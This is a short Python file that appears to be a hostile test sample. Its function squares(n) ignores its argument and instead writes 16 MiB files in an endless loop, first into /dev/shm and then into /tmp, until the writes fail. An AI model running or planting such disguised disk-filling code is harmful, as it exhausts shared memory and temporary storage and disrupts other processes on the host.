"""Fills /dev/shm, then the scratch tmpfs, until the writes fail."""

import contextlib
import os


def _fill(folder):
    chunk = b"x" * (1 << 20)
    number = 0
    while True:
        with open(os.path.join(folder, f"fill-{number}"), "wb") as handle:
            for _ in range(16):
                handle.write(chunk)
        number += 1


def squares(n):
    with contextlib.suppress(OSError):
        _fill("/dev/shm")
    _fill("/tmp")
